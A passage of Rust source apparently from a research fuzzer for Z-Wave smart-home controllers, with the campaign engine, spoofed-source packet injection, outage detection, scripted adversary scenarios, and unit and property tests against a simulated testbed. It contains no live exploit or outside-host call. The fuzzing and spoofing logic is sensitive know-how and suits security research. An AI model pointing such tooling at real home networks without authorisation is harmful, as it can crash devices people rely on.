/// [`crate::TrialSummary`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct CampaignCounters {
    /// Fuzz packets injected (excluding liveness pings).
    pub packets_sent: u64,
    /// Deterministic exploration plans executed.
    pub plans_executed: u64,
    /// Timed outages (hangs) observed.
    pub outages_observed: u64,
    /// Unique vulnerability findings recorded.
    pub findings: u64,
    /// Frames the impaired channel dropped (noise plus impairment stages).
    pub losses: u64,
    /// Frames the impaired channel delivered twice.
    pub duplicates: u64,
    /// Frames the impaired channel delivered out of order.
    pub reorders: u64,
    /// Frames the impaired channel truncated.
    pub truncations: u64,
    /// Frames silenced by a scripted blackout window.
    pub blackout_drops: u64,
    /// Unacknowledged fuzz packets retransmitted by the dongle.
    pub retransmissions: u64,
    /// Fuzz packets that exhausted the retransmission budget unacked.
    pub ack_timeouts: u64,
    /// Distinct APL dispatch edges lit on the target by campaign end
    /// (recorded in every mode; only coverage mode *uses* the feedback).
    pub edges_seen: u64,
    /// Corpus entries held at campaign end (coverage mode).
    pub corpus_size: u64,
    /// Inputs retained into the corpus over the campaign (coverage mode).
    pub retained_inputs: u64,
    /// Frames transmitted by the scripted adversary station.
    pub attack_frames: u64,
    /// Findings attributable to an attack scenario (bugs #16-#18).
    pub attack_verdicts: u64,
    /// High-water mark of live events in the simulation kernel — across
    /// trials/homes the *maximum* is kept, not the sum (it is a mark).
    pub sched_peak_pending: u64,
    /// Timers cancelled before firing (unlinked from the wheel in place).
    pub sched_cancelled: u64,
    /// Kernel filings per timing-wheel level `[L0, L1, L2, L3, overflow]`,
    /// including cascade re-filings — the occupancy profile that shows
    /// which timer bands the campaign actually exercised.
    pub sched_level_filings: [u64; zwave_radio::WHEEL_LEVELS + 1],
}

impl CampaignCounters {
    /// Adds another counter set into this one.
    pub fn merge(&mut self, other: &CampaignCounters) {
        self.packets_sent += other.packets_sent;
        self.plans_executed += other.plans_executed;
        self.outages_observed += other.outages_observed;
        self.findings += other.findings;
        self.losses += other.losses;
        self.duplicates += other.duplicates;
        self.reorders += other.reorders;
        self.truncations += other.truncations;
        self.blackout_drops += other.blackout_drops;
        self.retransmissions += other.retransmissions;
        self.ack_timeouts += other.ack_timeouts;
        self.edges_seen += other.edges_seen;
        self.corpus_size += other.corpus_size;
        self.retained_inputs += other.retained_inputs;
        self.attack_frames += other.attack_frames;
        self.attack_verdicts += other.attack_verdicts;
        self.sched_peak_pending = self.sched_peak_pending.max(other.sched_peak_pending);
        self.sched_cancelled += other.sched_cancelled;
        for (level, filings) in self.sched_level_filings.iter_mut().enumerate() {
            *filings += other.sched_level_filings[level];
        }
    }

    /// Copies the channel-side tallies out of a [`MediumStats`] delta.
    pub fn absorb_channel(&mut self, delta: &MediumStats) {
        self.losses += delta.losses;
        self.duplicates += delta.duplicates;
        self.reorders += delta.reorders;
        self.truncations += delta.truncations;
        self.blackout_drops += delta.blackout_drops;
    }

    /// Copies the kernel-side occupancy tallies out of a [`SchedStats`]
    /// delta (peak pending is a mark, so max rather than sum).
    pub fn absorb_sched(&mut self, delta: &SchedStats) {
        self.sched_peak_pending = self.sched_peak_pending.max(delta.peak_pending);
        self.sched_cancelled += delta.cancelled;
        for (level, filings) in self.sched_level_filings.iter_mut().enumerate() {
            *filings += delta.level_filings[level];
        }
    }
}

impl TraceSink for CampaignCounters {
    fn packet_sent(&mut self) {
        self.packets_sent += 1;
    }

    fn plan_executed(&mut self) {
        self.plans_executed += 1;
    }

    fn outage_observed(&mut self) {
        self.outages_observed += 1;
    }

    fn finding(&mut self, _finding: &VulnFinding) {
        self.findings += 1;
    }

    fn retransmission(&mut self) {
        self.retransmissions += 1;
    }

    fn ack_timeout(&mut self) {
        self.ack_timeouts += 1;
    }

    fn corpus_retained(&mut self, _new_edges: u64, _corpus_size: usize) {
        self.retained_inputs += 1;
    }

    fn attack_frame(&mut self, _index: u64) {
        self.attack_frames += 1;
    }
}

/// One point of the Figure 12 detection-over-time series.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TraceEvent {
    /// Virtual time of the event.
    pub at: SimInstant,
    /// Packets injected so far.
    pub packets: u64,
    /// A unique bug discovered at this point, if any (the red crosses).
    pub bug_id: Option<u8>,
    /// Distinct APL dispatch edges lit so far (the edges-over-time curve
    /// `bench_coverage` plots; zero on targets without instrumentation).
    pub edges: u64,
}

/// The outcome of one campaign.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CampaignResult {
    /// Fuzz packets injected (excluding liveness pings).
    pub packets_sent: u64,
    /// Unique verified findings, in discovery order.
    pub findings: Vec<VulnFinding>,
    /// Sampled timeline plus one event per discovery (Figure 12).
    pub trace: Vec<TraceEvent>,
    /// Distinct CMDCL bytes exercised (Table V coverage).
    pub cmdcl_coverage: BTreeSet<u8>,
    /// Distinct CMD bytes exercised (Table V coverage).
    pub cmd_coverage: BTreeSet<u8>,
    /// Structured event counters for the campaign.
    pub counters: CampaignCounters,
    /// The engine that produced this result.
    pub mode: FuzzMode,
    /// The scripted adversary that shared the medium (if any).
    pub scenario: Scenario,
    /// The retained corpus (empty outside coverage mode). Part of the
    /// result so determinism tests can compare corpus contents bit for
    /// bit across worker counts.
    pub corpus: Vec<CorpusEntry>,
    /// Campaign start (virtual).
    pub started: SimInstant,
    /// Campaign end (virtual).
    pub ended: SimInstant,
}

impl CampaignResult {
    /// Number of unique vulnerabilities found.
    pub fn unique_vulns(&self) -> usize {
        self.findings.len()
    }

    /// Virtual duration of the campaign.
    pub fn duration(&self) -> Duration {
        self.ended.duration_since(self.started)
    }
}

/// The fuzzing engine.
#[derive(Debug)]
pub struct Fuzzer {
    config: FuzzConfig,
}

struct CampaignState<'a, T: FuzzTarget> {
    target: &'a mut T,
    dongle: &'a mut Dongle,
    scan: &'a ScanReport,
    sink: &'a mut dyn TraceSink,
    mutator: Mutator,
    log: BugLog,
    trace: Vec<TraceEvent>,
    packets: u64,
    counters: CampaignCounters,
    cmdcl_coverage: BTreeSet<u8>,
    cmd_coverage: BTreeSet<u8>,
    deadline: SimInstant,
    driver: Option<ScenarioDriver>,
}

impl Fuzzer {
    /// Creates a fuzzer with `config`.
    pub fn new(config: FuzzConfig) -> Self {
        Fuzzer { config }
    }

    /// The configuration in use.
    pub fn config(&self) -> &FuzzConfig {
        &self.config
    }

    /// Runs one campaign against `target` using the fingerprinting and
    /// discovery results. Implements Algorithm 1: a priority queue of
    /// CMDCLs, per-class windows of semi-valid packet generation and
    /// mutation, response monitoring with NOP liveness pings, and bug
    /// logging.
    pub fn run<T: FuzzTarget>(
        &self,
        target: &mut T,
        dongle: &mut Dongle,
        scan: &ScanReport,
        discovery: &DiscoveryReport,
    ) -> CampaignResult {
        self.run_with_sink(target, dongle, scan, discovery, &mut NullSink)
    }

    /// [`Fuzzer::run`] with a [`TraceSink`] observing the campaign as it
    /// executes. The sink sees every packet, plan, outage, and finding
    /// synchronously; the campaign itself is bit-identical whichever sink
    /// is attached (the sink cannot influence scheduling or the RNG).
    pub fn run_with_sink<T: FuzzTarget>(
        &self,
        target: &mut T,
        dongle: &mut Dongle,
        scan: &ScanReport,
        discovery: &DiscoveryReport,
        sink: &mut dyn TraceSink,
    ) -> CampaignResult {
        let clock = target.medium().clock().clone();
        let started = clock.now();
        let channel_before = target.medium().stats();
        let sched_before = target.medium().scheduler().stats();
        let semantic = Mutator::semantic_pool(scan.controller, &scan.slaves);
        // The scripted adversary joins the medium anchored at campaign
        // start; its whole schedule is a pure function of (scenario,
        // seed), so it cannot perturb non-scenario campaigns.
        let driver = ScenarioDriver::new(
            self.config.scenario,
            target.medium(),
            started,
            self.config.seed,
            scan.home_id,
            scan.controller,
        );
        let mut state = CampaignState {
            target,
            dongle,
            scan,
            sink,
            mutator: Mutator::new(self.config.seed, semantic),
            log: BugLog::new(),
            trace: Vec::new(),
            packets: 0,
            counters: CampaignCounters::default(),
            cmdcl_coverage: BTreeSet::new(),
            cmd_coverage: BTreeSet::new(),
            deadline: started.plus(self.config.testing_duration),
            driver,
        };

        let mut corpus = Vec::new();
        match self.config.mode {
            FuzzMode::Coverage => {
                corpus = self.run_coverage(&mut state, discovery);
                state.counters.corpus_size = corpus.len() as u64;
            }
            FuzzMode::Vfuzz => {
                // The VFuzz baseline through the same injection/oracle
                // machinery: blind uniform APL payloads, no feedback.
                while clock.now() < state.deadline {
                    let payload = state.mutator.random_payload();
                    Self::send_and_observe(&mut state, &payload);
                }
            }
            FuzzMode::Zcover if self.config.position_sensitive => {
                let mut queue: Vec<CommandClassId> = if self.config.use_unknown_cmdcls {
                    discovery.prioritized_targets()
                } else {
                    // β: only the NIF-listed classes, by command count.
                    let mut listed = discovery.listed.clone();
                    let reg = Registry::global();
                    listed.sort_by_key(|id| {
                        (std::cmp::Reverse(reg.get(*id).map_or(0, |s| s.command_count())), id.0)
                    });
                    listed
                };
                if !self.config.prioritize {
                    queue.sort_by_key(|id| id.0);
                }
                // First pass: deterministic plans per class.
                'outer: loop {
                    for &cc in &queue {
                        if clock.now() >= state.deadline {
                            break 'outer;
                        }
                        self.fuzz_cmdcl_window(&mut state, cc);
                    }
                    // Subsequent passes: keep mutating randomly until the
                    // budget is exhausted (24-hour trials re-cover the queue).
                    if clock.now() >= state.deadline {
                        break;
                    }
                    for &cc in &queue {
                        if clock.now() >= state.deadline {
                            break 'outer;
                        }
                        self.refuzz_random(&mut state, cc, 50);
                    }
                }
            }
            FuzzMode::Zcover => {
                // γ: uniform random CMDCL/CMD/PARAM packets.
                while clock.now() < state.deadline {
                    let payload = state.mutator.random_payload();
                    Self::send_and_observe(&mut state, &payload);
                }
            }
        }

        let channel_delta = state.target.medium().stats().since(&channel_before);
        state.counters.absorb_channel(&channel_delta);
        let sched_delta = state.target.medium().scheduler().stats().since(&sched_before);
        state.counters.absorb_sched(&sched_delta);

        CampaignResult {
            packets_sent: state.packets,
            findings: state.log.findings().to_vec(),
            trace: state.trace,
            cmdcl_coverage: state.cmdcl_coverage,
            cmd_coverage: state.cmd_coverage,
            counters: state.counters,
            mode: self.config.mode,
            scenario: self.config.scenario,
            corpus,
            started,
            ended: clock.now(),
        }
    }

    /// The coverage-guided campaign (ROADMAP item 2).
    ///
    /// Phase 1 bootstraps with the deterministic exploration plans over the
    /// prioritized queue — no random bursts or window tails, so the sweep
    /// reaches late-queue classes far sooner than Algorithm 1's 400-packet
    /// windows. Phase 2 mutates corpus entries picked by the energy-
    /// weighted power schedule until the budget runs out. Every injected
    /// payload that lights a new dispatch edge is retained; an entry whose
    /// mutation discovers more gets an energy boost.
    fn run_coverage<T: FuzzTarget>(
        &self,
        state: &mut CampaignState<'_, T>,
        discovery: &DiscoveryReport,
    ) -> Vec<CorpusEntry> {
        let clock = state.target.medium().clock().clone();
        let mut corpus = Corpus::new();
        let mut schedule = PowerSchedule::new(self.config.seed);

        let observe_retention = |state: &mut CampaignState<'_, T>,
                                 corpus: &mut Corpus,
                                 payload: &ApplicationPayload,
                                 before: u64| {
            let gained = state.target.coverage_edges().saturating_sub(before);
            if gained > 0 {
                corpus.retain(payload.encode(), gained, state.packets);
                state.counters.retained_inputs += 1;
                state.sink.corpus_retained(gained, corpus.len());
            }
            gained
        };

        // Phase 1: deterministic plan bootstrap over the prioritized queue.
        let queue = discovery.prioritized_targets();
        'boot: for &cc in &queue {
            let spec = Registry::global().get(cc);
            for cmd in Self::command_candidates(spec) {
                if clock.now() >= state.deadline {
                    break 'boot;
                }
                for params in state.mutator.exploration_plans(cc, cmd) {
                    if clock.now() >= state.deadline {
                        break 'boot;
                    }
                    let payload = ApplicationPayload::new(cc, cmd, params);
                    state.counters.plans_executed += 1;
                    state.sink.plan_executed();
                    let before = state.target.coverage_edges();
                    let hung = Self::send_and_observe(state, &payload);
                    observe_retention(state, &mut corpus, &payload, before);
                    if hung {
                        // Same starvation guard as Algorithm 1: a hanging
                        // command is conclusively vulnerable already.
                        break;
                    }
                }
            }
        }

        // Phase 2: corpus-biased mutation under the power schedule.
        while clock.now() < state.deadline {
            let Some(index) = schedule.choose(&corpus) else {
                // Nothing retained yet (fully patched target): fall back
                // to blind payloads until something lights an edge.
                let payload = state.mutator.random_payload();
                let before = state.target.coverage_edges();
                Self::send_and_observe(state, &payload);
                observe_retention(state, &mut corpus, &payload, before);
                continue;
            };
            let base = corpus.entries()[index].payload.clone();
            let Ok(parsed) = ApplicationPayload::parse(&base) else { continue };
            let cc = parsed.command_class();
            let spec = Registry::global().get(cc);
            let mut payload = parsed;
            let rounds = 1 + schedule.next_u64() % 4;
            for _ in 0..rounds {
                state.mutator.mutate(&mut payload, spec);
            }
            let before = state.target.coverage_edges();
            Self::send_and_observe(state, &payload);
            if observe_retention(state, &mut corpus, &payload, before) > 0 {
                // The parent keeps paying off: schedule it more often.
                corpus.boost(index, 1);
            }
        }

        corpus.into_entries()
    }

    /// One Algorithm 1 window: for each command candidate of `cc`, send
    /// the semi-valid seed, walk the deterministic exploration plans, then
    /// mutate randomly.
    fn fuzz_cmdcl_window<T: FuzzTarget>(
        &self,
        state: &mut CampaignState<'_, T>,
        cc: CommandClassId,
    ) {
        let spec = Registry::global().get(cc);
        let window_start_packets = state.packets;
        let budget = u64::from(self.config.per_cmdcl_packets);
        let clock = state.target.medium().clock().clone();

        let cmds = Self::command_candidates(spec);

        let plans_for = |state: &mut CampaignState<'_, T>, cmd: u8| -> Vec<Vec<u8>> {
            if self.config.semantic_plans {
                state.mutator.exploration_plans(cc, cmd)
            } else {
                // Extended ablation: only the Algorithm 1 seed shape.
                vec![vec![0x00]]
            }
        };
        'window: for cmd in cmds {
            let mut hung = false;
            for params in plans_for(state, cmd) {
                if state.packets - window_start_packets >= budget || clock.now() >= state.deadline {
                    break 'window;
                }
                let payload = ApplicationPayload::new(cc, cmd, params);
                state.counters.plans_executed += 1;
                state.sink.plan_executed();
                // A hang/outage means this command is conclusively
                // vulnerable; spending further plans (and 60-240 s recovery
                // waits each) on it would starve the rest of the queue.
                if Self::send_and_observe(state, &payload) {
                    hung = true;
                    break;
                }
            }
            if hung {
                continue;
            }
            // A short burst of random mutation from the seed payload.
            let mut payload = state.mutator.seed_payload(cc, cmd);
            for _ in 0..3 {
                if state.packets - window_start_packets >= budget || clock.now() >= state.deadline {
                    break 'window;
                }
                state.mutator.mutate(&mut payload, spec);
                if Self::send_and_observe(state, &payload) {
                    break;
                }
            }
        }

        // Window tail: free-form mutation across the class.
        let mut payload = state.mutator.seed_payload(cc, 0x00);
        for _ in 0..self.config.extra_random_packets {
            if state.packets - window_start_packets >= budget || clock.now() >= state.deadline {
                break;
            }
            state.mutator.mutate(&mut payload, spec);
            Self::send_and_observe(state, &payload);
        }
    }

    /// The command candidates for one class: the specified commands plus
    /// undefined-command probes, or a 0x00..0x17 sweep for unknown
    /// classes (Section III-C2).
    fn command_candidates(spec: Option<&zwave_protocol::CommandClassSpec>) -> Vec<u8> {
        match spec {
            Some(s) if !s.commands.is_empty() => {
                let mut v: Vec<u8> = s.commands.iter().map(|c| c.id).collect();
                // Undefined-command probes around the defined set.
                let max = v.iter().copied().max().unwrap_or(0);
                for probe in [0x00, max.wrapping_add(1), 0x7F] {
                    if !v.contains(&probe) {
                        v.push(probe);
                    }
                }
                v
            }
            _ => (0x00..=0x17).collect(),
        }
    }

    /// Later-pass random mutation over one class.
    fn refuzz_random<T: FuzzTarget>(
        &self,
        state: &mut CampaignState<'_, T>,
        cc: CommandClassId,
        packets: u32,
    ) {
        let spec = Registry::global().get(cc);
        let clock = state.target.medium().clock().clone();
        let mut payload = state.mutator.seed_payload(cc, 0x00);
        for i in 0..packets {
            if clock.now() >= state.deadline {
                return;
            }
            // Reseed periodically so cumulative arithmetic mutations do
            // not random-walk the CMD byte out of the plausible space.
            if i % 10 == 0 {
                payload = state.mutator.seed_payload(cc, 0x00);
            }
            state.mutator.mutate(&mut payload, spec);
            let _ = Self::send_and_observe(state, &payload);
        }
    }

    /// Executes one test case: inject, pump the network, wait, collect the
    /// verification oracle, monitor liveness, and wait out any outage.
    /// Returns `true` when the packet caused a timed outage (hang).
    fn send_and_observe<T: FuzzTarget>(
        state: &mut CampaignState<'_, T>,
        payload: &ApplicationPayload,
    ) -> bool {
        let src = state.scan.spoof_source();
        let dst = state.scan.controller;
        let home = state.scan.home_id;

        // Service the scripted adversary first: every attack frame whose
        // fire time has passed goes on the air (in index order) before
        // this test case, and the attacker's wakeup keeps outage-recovery
        // event hops landing on attack instants.
        if let Some(driver) = state.driver.as_mut() {
            let fired = driver.step();
            if !fired.is_empty() {
                state.counters.attack_frames += fired.len() as u64;
                for index in fired {
                    state.sink.attack_frame(index);
                }
                state.target.pump();
            }
        }

        // Transmit with G.9959 MAC retransmission: the frame is injected
        // once and, when no acknowledgement arrives, resent *byte-
        // identically* up to twice, so a receiver whose ack was lost
        // suppresses the copy instead of reprocessing it. On a clean
        // channel a live controller acks the first attempt.
        let check_ack = |state: &mut CampaignState<'_, T>| {
            state.target.pump();
            state.dongle.wait_for_responses();
            state.target.pump();
            state.dongle.drain().iter().any(|f| {
                zwave_protocol::MacFrame::decode(&f.bytes)
                    .map(|m| m.is_ack() && m.src() == dst)
                    .unwrap_or(false)
            })
        };
        state.dongle.flush();
        state.dongle.inject_apl(home, src, dst, payload.encode());
        let mut acked = check_ack(state);
        for _retry in 0..2 {
            if acked {
                break;
            }
            if !state.dongle.retransmit_last() {
                break;
            }
            state.counters.retransmissions += 1;
            state.sink.retransmission();
            acked = check_ack(state);
        }
        if !acked {
            state.counters.ack_timeouts += 1;
            state.sink.ack_timeout();
        }
        state.packets += 1;
        state.counters.packets_sent += 1;
        state.sink.packet_sent();
        state.cmdcl_coverage.insert(payload.command_class().0);
        if let Some(cmd) = payload.command() {
            state.cmd_coverage.insert(cmd);
        }
        // Absolute (not additive): the target's map is already cumulative.
        state.counters.edges_seen = state.target.coverage_edges();

        // Verification oracle: record any fault this packet caused.
        let mut new_bug = false;
        let mut outage_fired = false;
        for fault in state.target.take_faults() {
            if fault.outage.is_some() {
                outage_fired = true;
            }
            if state.log.record(&fault, state.packets) {
                state.trace.push(TraceEvent {
                    at: fault.at,
                    packets: state.packets,
                    bug_id: Some(fault.bug_id),
                    edges: state.counters.edges_seen,
                });
                new_bug = true;
                state.counters.findings += 1;
                // Only the scripted-adversary bugs are attack verdicts;
                // later implementation bugs (#19's routed-path corruption)
                // are ordinary fuzzing findings.
                if (16..=18).contains(&fault.bug_id) {
                    state.counters.attack_verdicts += 1;
                }
                if let Some(finding) = state.log.findings().last() {
                    state.sink.finding(finding);
                }
            }
        }
        if outage_fired {
            state.counters.outages_observed += 1;
            state.sink.outage_observed();
        }

        // Liveness monitoring via NOP ping; a couple of quick retries
        // filter channel loss from genuine outages. The oracle then
        // distinguishes "target crashed/hung" (a fault fired — wait out
        // the recovery so later test cases are not wasted on a deaf
        // device) from "frame never arrived" (no fault observed: the
        // impaired channel ate the ping, so move on without burning 300 s
        // of recovery budget on a live controller).
        let mut alive = PingOutcome::Unresponsive;
        for _ in 0..3 {
            state.dongle.send_ping(home, src, dst);
            state.target.pump();
            alive = state.dongle.check_ping(dst);
            if alive == PingOutcome::Alive {
                break;
            }
        }
        if alive == PingOutcome::Unresponsive && outage_fired {
            // Hop straight to the next scheduled event — normally the
            // controller's recovery wakeup — instead of stepping virtual
            // seconds one ping at a time. The 300 s cap bounds the wait
            // exactly like the stepping loop did.
            let deadline = state.target.medium().clock().now().plus(Duration::from_secs(300));
            loop {
                let hopped = state.target.advance_to_event(deadline);
                // Same 3-attempt retry as the liveness check above: the
                // stepping loop was naturally loss-tolerant (a ping every
                // second), a single ping per hop is not.
                let mut recovered = PingOutcome::Unresponsive;
                for _ in 0..3 {
                    state.dongle.send_ping(home, src, dst);
                    state.target.pump();
                    recovered = state.dongle.check_ping(dst);
                    if recovered == PingOutcome::Alive {
                        break;
                    }
                }
                if recovered == PingOutcome::Alive || !hopped {
                    break;
                }
            }
        }

        // Sample the timeline for Figure 12.
        if !new_bug && state.packets.is_multiple_of(10) {
            state.trace.push(TraceEvent {
                at: state.target.medium().clock().now(),
                packets: state.packets,
                bug_id: None,
                edges: state.counters.edges_seen,
            });
        }
        outage_fired
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::active::ActiveScanner;
    use crate::discovery::UnknownDiscovery;
    use crate::passive::PassiveScanner;
    use zwave_controller::testbed::{DeviceModel, Testbed};

    fn prepare(model: DeviceModel, seed: u64) -> (Testbed, Dongle, ScanReport, DiscoveryReport) {
        let mut tb = Testbed::new(model, seed);
        let mut passive = PassiveScanner::new(tb.medium(), 70.0);
        tb.exchange_normal_traffic();
        let scan = passive.analyze().unwrap();
        let mut dongle = Dongle::attach(tb.medium(), 70.0);
        let active = ActiveScanner::scan(&mut tb, &mut dongle, &scan).unwrap();
        let discovery = UnknownDiscovery::run(&mut tb, &mut dongle, &scan, active.listed);
        // Discovery probes advance the clock; findings are timed from the
        // fuzzing start either way.
        (tb, dongle, scan, discovery)
    }

    #[test]
    fn full_campaign_finds_all_15_bugs_within_an_hour_on_d1() {
        // Table VI test 1: 15 unique vulnerabilities on the ZooZ device.
        let (mut tb, mut dongle, scan, discovery) = prepare(DeviceModel::D1, 1);
        let fuzzer = Fuzzer::new(FuzzConfig::full(Duration::from_secs(3600), 1));
        let result = fuzzer.run(&mut tb, &mut dongle, &scan, &discovery);
        let mut ids: Vec<u8> = result.findings.iter().map(|f| f.bug_id).collect();
        ids.sort_unstable();
        assert_eq!(ids, (1..=15).collect::<Vec<u8>>(), "packets={}", result.packets_sent);
    }

    #[test]
    fn beta_finds_exactly_the_8_listed_class_bugs() {
        // Table VI test 2.
        let (mut tb, mut dongle, scan, discovery) = prepare(DeviceModel::D1, 2);
        let fuzzer = Fuzzer::new(FuzzConfig::beta(Duration::from_secs(3600), 2));
        let result = fuzzer.run(&mut tb, &mut dongle, &scan, &discovery);
        let mut ids: Vec<u8> = result.findings.iter().map(|f| f.bug_id).collect();
        ids.sort_unstable();
        assert_eq!(ids, vec![6, 7, 8, 9, 10, 11, 13, 15]);
    }

    #[test]
    fn gamma_finds_markedly_fewer() {
        // Table VI test 3: random fuzzing is the least effective.
        let (mut tb, mut dongle, scan, discovery) = prepare(DeviceModel::D1, 3);
        let fuzzer = Fuzzer::new(FuzzConfig::gamma(Duration::from_secs(3600), 3));
        let result = fuzzer.run(&mut tb, &mut dongle, &scan, &discovery);
        assert!(
            (3..=9).contains(&result.unique_vulns()),
            "gamma found {} bugs",
            result.unique_vulns()
        );
    }

    #[test]
    fn coverage_matches_table5_shape() {
        let (mut tb, mut dongle, scan, discovery) = prepare(DeviceModel::D2, 4);
        // A Table V-style 24-hour trial (virtual time).
        let fuzzer = Fuzzer::new(FuzzConfig::full(Duration::from_secs(24 * 3600), 4));
        let result = fuzzer.run(&mut tb, &mut dongle, &scan, &discovery);
        // 45 prioritized CMDCLs.
        assert_eq!(result.cmdcl_coverage.len(), 45);
        // CMD coverage stays *focused* — well below VFuzz's indiscriminate
        // 256 (the paper reports 53; our mutator explores a somewhat wider
        // neighbourhood, recorded in EXPERIMENTS.md).
        assert!(
            (40..=190).contains(&result.cmd_coverage.len()),
            "cmd coverage {}",
            result.cmd_coverage.len()
        );
    }

    #[test]
    fn trace_contains_discovery_marks() {
        let (mut tb, mut dongle, scan, discovery) = prepare(DeviceModel::D1, 5);
        let fuzzer = Fuzzer::new(FuzzConfig::full(Duration::from_secs(1800), 5));
        let result = fuzzer.run(&mut tb, &mut dongle, &scan, &discovery);
        let marks: Vec<&TraceEvent> = result.trace.iter().filter(|e| e.bug_id.is_some()).collect();
        assert_eq!(marks.len(), result.unique_vulns());
        // Trace is time ordered.
        for pair in result.trace.windows(2) {
            assert!(pair[0].at <= pair[1].at);
        }
    }

    #[test]
    fn most_bugs_found_early_like_figure12() {
        // Section IV-B2: "within an average of 600 seconds and 800 test
        // packets" for many vulnerabilities.
        let (mut tb, mut dongle, scan, discovery) = prepare(DeviceModel::D1, 6);
        let start = tb.clock().now();
        let fuzzer = Fuzzer::new(FuzzConfig::full(Duration::from_secs(3600), 6));
        let result = fuzzer.run(&mut tb, &mut dongle, &scan, &discovery);
        let early = result
            .findings
            .iter()
            .filter(|f| f.found_at.duration_since(start) < Duration::from_secs(600))
            .count();
        assert!(early >= 7, "only {early} bugs inside the first 600 s");
    }
}

//! Property-based tests for the fuzzer's building blocks.

use proptest::prelude::*;

use zcover::minimize::minimize;
use zcover::mutation::{MutationOp, Mutator};
use zwave_protocol::apl::{ApplicationPayload, FieldPosition};
use zwave_protocol::registry::Registry;
use zwave_protocol::CommandClassId;

proptest! {
    /// Mutated payloads always re-encode to parseable byte strings and
    /// keep the command class fixed.
    #[test]
    fn mutation_closure(
        seed in any::<u64>(),
        cc in any::<u8>(),
        cmd in any::<u8>(),
        params in proptest::collection::vec(any::<u8>(), 0..10),
        steps in 1usize..60,
    ) {
        let mut mutator = Mutator::new(seed, vec![0x01, 0x02, 0x03]);
        let mut payload = ApplicationPayload::new(CommandClassId(cc), cmd, params);
        let spec = Registry::global().get(CommandClassId(cc));
        for _ in 0..steps {
            mutator.mutate(&mut payload, spec);
            prop_assert_eq!(payload.command_class(), CommandClassId(cc));
            let encoded = payload.encode();
            let back = ApplicationPayload::parse(&encoded).unwrap();
            prop_assert_eq!(&back, &payload);
            // Payloads stay MAC-frameable.
            prop_assert!(encoded.len() <= 60, "payload grew to {}", encoded.len());
        }
    }

    /// Exploration plans are bounded and deduplicated for every
    /// (class, command) pair.
    #[test]
    fn plans_are_bounded(cc in any::<u8>(), cmd in any::<u8>()) {
        let mutator = Mutator::new(1, vec![0x01, 0x02]);
        let plans = mutator.exploration_plans(CommandClassId(cc), cmd);
        prop_assert!(!plans.is_empty());
        prop_assert!(plans.len() <= 24);
        for plan in &plans {
            prop_assert!(plan.len() <= 16, "oversized plan {plan:?}");
        }
    }

    /// Every operator applied at a legal position leaves a payload that
    /// still parses.
    #[test]
    fn single_operators_preserve_wellformedness(
        seed in any::<u64>(),
        params in proptest::collection::vec(any::<u8>(), 1..8),
        op_idx in 0usize..5,
        pos_idx in 0usize..8,
    ) {
        let mut mutator = Mutator::new(seed, vec![0x02]);
        let mut payload = ApplicationPayload::new(CommandClassId(0x01), 0x0D, params);
        let op = MutationOp::all()[op_idx];
        let pos = if pos_idx == 0 {
            FieldPosition::Command
        } else {
            FieldPosition::Param(pos_idx - 1)
        };
        mutator.apply(&mut payload, pos, op, None);
        let encoded = payload.encode();
        prop_assert_eq!(ApplicationPayload::parse(&encoded).unwrap().encode(), encoded);
    }

    /// Minimization never enlarges a trigger, always reproduces, and is
    /// idempotent.
    #[test]
    fn minimize_shrinks_and_reproduces(
        trigger in proptest::collection::vec(any::<u8>(), 3..14),
        threshold in 2usize..6,
    ) {
        // Synthetic oracle: fires when the payload has at least `threshold`
        // parameter bytes (length-based bugs, like #03 and #15).
        let oracle = move |p: &[u8]| p.len() >= threshold + 2;
        prop_assume!(oracle(&trigger));
        let minimal = minimize(&trigger, oracle);
        prop_assert!(oracle(&minimal));
        prop_assert!(minimal.len() <= trigger.len());
        prop_assert_eq!(minimize(&minimal, oracle).len(), minimal.len());
    }

    /// Minimization after an arbitrary mutation chain: however the
    /// mutator mangled the trigger, the minimized payload still satisfies
    /// the oracle, never grows, keeps the command class, and is a fixed
    /// point of a second minimization pass.
    #[test]
    fn minimize_survives_random_mutation_chains(
        seed in any::<u64>(),
        steps in 1usize..40,
    ) {
        let mut mutator = Mutator::new(seed, vec![0x01]);
        let mut payload =
            ApplicationPayload::new(CommandClassId(0x5A), 0x01, vec![0x00, 0x07]);
        let spec = Registry::global().get(CommandClassId(0x5A));
        for _ in 0..steps {
            mutator.mutate(&mut payload, spec);
        }
        let trigger = payload.encode();
        // Oracle keyed on the command class, like the length-independent
        // parser bugs: every mutated descendant still reproduces.
        let oracle = |p: &[u8]| p.first() == Some(&0x5A);
        prop_assume!(oracle(&trigger));
        let minimal = minimize(&trigger, oracle);
        prop_assert!(oracle(&minimal));
        prop_assert!(minimal.len() <= trigger.len());
        let again = minimize(&minimal, oracle);
        prop_assert_eq!(again, minimal.clone(), "minimization is idempotent");
    }

    /// γ's random payload generator stays within the MAC payload budget
    /// and parses.
    #[test]
    fn random_payloads_are_wellformed(seed in any::<u64>()) {
        let mut mutator = Mutator::new(seed, vec![]);
        for _ in 0..50 {
            let payload = mutator.random_payload();
            let encoded = payload.encode();
            prop_assert!(encoded.len() >= 2 && encoded.len() <= 10);
            prop_assert_eq!(ApplicationPayload::parse(&encoded).unwrap(), payload);
        }
    }
}

//! End-to-end CLI tests for the trace subcommands: `zcover replay` must
//! fail malformed input with exit code 2 and a byte-offset locus (plus
//! whatever the CRC-protected header still says), never a panic; `zcover
//! trace export` must convert between the formats losslessly.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn zcover(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_zcover")).args(args).output().expect("zcover runs")
}

fn tmp_dir(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("zcover_cli_{tag}_{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    dir
}

/// Records one short campaign to `dir/trace.zct` and returns its path.
fn record_zct(dir: &Path) -> PathBuf {
    let path = dir.join("trace.zct");
    let out = zcover(&[
        "fuzz",
        "--device",
        "D1",
        "--hours",
        "0.005",
        "--seed",
        "11",
        "--record",
        path.to_str().expect("utf-8 path"),
    ]);
    assert!(out.status.success(), "recording failed: {}", String::from_utf8_lossy(&out.stderr));
    path
}

#[test]
fn replay_accepts_both_formats_and_converts_via_trace_export() {
    let dir = tmp_dir("roundtrip");
    let zct = record_zct(&dir);
    let jsonl = dir.join("trace.jsonl");

